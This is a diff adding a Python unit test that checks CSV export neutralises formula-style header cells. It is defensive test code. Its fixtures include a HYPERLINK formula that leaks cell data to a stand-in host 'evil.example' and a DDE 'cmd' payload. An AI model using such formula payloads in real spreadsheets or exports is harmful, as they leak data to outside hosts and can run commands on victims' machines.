@@ -44,6 +44,21 @@ def test_csv_bytes_are_exact(tiny_ref):
     assert to_csv_bytes(frame).decode("utf-8") == expected
 
 
+def test_csv_header_cells_are_neutralised_too(tiny_ref):
+    """Defence in depth: the loader never keeps such a column, but a frame built another way
+    still gets a safe header."""
+    frame = load_rows([row()], tiny_ref).frame.iloc[0:0]
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    frame = frame.assign(**{formula: [], "@x": [], "note": []})
+    frame.attrs["extra_columns"] = (formula, "@x", "note")
+    expected = (
+        "\ufeff"
+        + ",".join(EVENT_COLUMNS)
+        + ',"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",\'@x,note\r\n'
+    )
+    assert to_csv_bytes(frame) == expected.encode("utf-8")
+
+
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil","click")',
     "+cmd|' /C calc'!A0",
